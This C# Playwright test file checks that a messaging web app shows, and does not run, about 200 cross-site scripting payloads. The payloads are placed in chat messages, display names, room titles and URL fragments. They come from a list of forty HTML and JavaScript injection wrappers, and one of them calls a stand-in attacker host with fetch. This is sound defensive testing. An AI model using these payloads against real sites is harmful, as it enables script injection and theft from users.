using static Microsoft.Playwright.Assertions;

namespace Messaging.EndToEnd;

/// <summary>Texts that would be scripts if a page were careless. None may run, whatever it stands in.</summary>
internal sealed class InjectionTests : BrowserFixture
{
    private const int Contents = 150;
    private const int Names = 25;
    private const int Titles = 25;

    private static readonly string[] Scripts =
    [
        "alert({0})",
        "window.hacked={0}",
        "document.title='hacked {0}'",
        "fetch('https://attacker.invalid/{0}')",
        "eval('alert({0})')",
    ];

    private static readonly string[] Wrappers =
    [
        "<script>{0}</script>",
        "<img src=x onerror=\"{0}\">",
        "<svg onload=\"{0}\">",
        "<svg><script>{0}</script></svg>",
        "<iframe srcdoc=\"<script>{0}</script>\"></iframe>",
        "<iframe src=\"javascript:{0}\"></iframe>",
        "<a href=\"javascript:{0}\">press</a>",
        "javascript:{0}",
        "https://example.org/\"onmouseover=\"{0}",
        "https://example.org/<script>{0}</script>",
        "\"><script>{0}</script>",
        "'-{0}-'",
        "</textarea><script>{0}</script>",
        "</title><script>{0}</script>",
        "<body onload=\"{0}\">",
        "<input autofocus onfocus=\"{0}\">",
        "<details open ontoggle=\"{0}\">",
        "<video><source onerror=\"{0}\"></video>",
        "<math><mtext><style><img src=x onerror=\"{0}\"></style></mtext></math>",
        "<object data=\"javascript:{0}\"></object>",
        "<embed src=\"javascript:{0}\">",
        "<form action=\"javascript:{0}\"><button autofocus>send</button></form>",
        "<link rel=stylesheet href=\"javascript:{0}\">",
        "<style>@import 'javascript:{0}';</style>",
        "<base href=\"javascript:{0}//\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
        "${{{0}}}",
        "{{{{constructor.constructor('{0}')()}}}}",
        "<!--><script>{0}</script>-->",
        "<noscript><p title=\"</noscript><script>{0}</script>\">",
        "data:text/html,<script>{0}</script>",
        "\u202E<script>{0}</script>",
        "&lt;script&gt;{0}&lt;/script&gt;",
        "<scr\u200Bipt>{0}</scr\u200Bipt>",
        "<template><script>{0}</script></template>",
        "<div style=\"background:url(javascript:{0})\">",
        "<xss id=x tabindex=1 onfocus=\"{0}\" autofocus></xss>",
        "<marquee onstart=\"{0}\">",
        "<button popovertarget=x onclick=\"{0}\">press</button>",
        "]]><script>{0}</script>",
    ];

    [Test]
    public async Task Text_WhenItIsAScript_ShouldBeShownAndNotRun()
    {
        var payloads = Payloads().Distinct(StringComparer.Ordinal).ToList();
        payloads.Count.ShouldBe(Contents + Names + Titles);
        var (victim, attacker) = (await RegisterAsync(), await RegisterAsync());
        var chat = await OpenAsync(victim);
        foreach (var content in payloads.Take(Contents))
        {
            await attacker.SendAsync(victim, content);
        }

        await chat.OpenWithAsync(attacker.UserName);
        await Expect(chat.Texts).ToHaveTextAsync([.. payloads.Take(Contents).Select(text => text.Trim())], new() { Timeout = 30_000 });
        await ShowsNothingForeignAsync(chat);

        foreach (var name in payloads.Skip(Contents).Take(Names).Select(Shortened))
        {
            (await attacker.PatchAsync("users/me", new { displayName = name })).ShouldBeOk();
            await chat.Page.GetByLabel("Find people and conversations").FillAsync(attacker.UserName);
            await Expect(chat.Page.Locator(".people .row-title")).ToHaveTextAsync(name.Trim());
            await chat.GoAsync("#/");
            await chat.OpenWithAsync(attacker.UserName);
            await Expect(chat.Page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToHaveTextAsync(name.Trim());
        }

        await ShowsNothingForeignAsync(chat);
        var titles = payloads.Skip(Contents + Names).Take(Titles).ToList();
        for (var index = 0; index < titles.Count; index++)
        {
            (await attacker.PostAsync("rooms", new { name = $"room-{index}", title = titles[index], isPublic = true })).ShouldBeCreated();
        }

        await chat.GoAsync("#/rooms");
        foreach (var title in titles)
        {
            await Expect(chat.Page.Locator(".line-text > a", new() { HasTextString = title }).First).ToBeVisibleAsync();
        }

        await chat.GoAsync("#/room/room-0");
        await Expect(chat.Page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToHaveTextAsync(titles[0].Trim());
        await ShowsNothingForeignAsync(chat);
    }

    [Test]
    public async Task Address_WhenItIsAScript_ShouldBeShownAndNotRun()
    {
        var chat = await OpenAsync(await RegisterAsync());

        foreach (var payload in Payloads().Take(20))
        {
            await chat.GoAsync($"#/with/{Uri.EscapeDataString(payload)}");
            await Expect(chat.Page.Locator(".empty h2").Last).ToBeVisibleAsync();
        }

        await ShowsNothingForeignAsync(chat);
    }

    private static IEnumerable<string> Payloads() =>
        from script in Scripts.Index()
        from wrapper in Wrappers.Index()
        select string.Format(System.Globalization.CultureInfo.InvariantCulture, wrapper.Item,
            string.Format(System.Globalization.CultureInfo.InvariantCulture, script.Item, (script.Index * 100) + wrapper.Index));

    // Names have at most 64 characters.
    private static string Shortened(string text) => text.Length <= 64 ? text : text[..64];

    /// <summary>Checks that no text became an element, an attribute or a variable; the fixture checks for dialogs and violations.</summary>
    private static async Task ShowsNothingForeignAsync(ChatPage chat)
    {
        var foreign = await chat.Page.EvaluateAsync<string[]>(
            """
            () => [...document.querySelectorAll('#app *, #announcer *')].filter((element) =>
              ['SCRIPT', 'IMG', 'IFRAME', 'OBJECT', 'EMBED', 'VIDEO', 'MATH', 'META', 'BASE', 'STYLE', 'XSS', 'MARQUEE', 'TEMPLATE'].includes(element.tagName.toUpperCase())
              || [...element.attributes].some(({ name, value }) => name.startsWith('on') || name === 'srcdoc' || /^\s*(javascript|data):/i.test(value) && ['href', 'src', 'action'].includes(name)))
              .map((element) => element.outerHTML.slice(0, 200))
            """);
        foreign.ShouldBeEmpty();
        (await chat.Page.EvaluateAsync<bool>("() => 'hacked' in window")).ShouldBeFalse();
    }
}
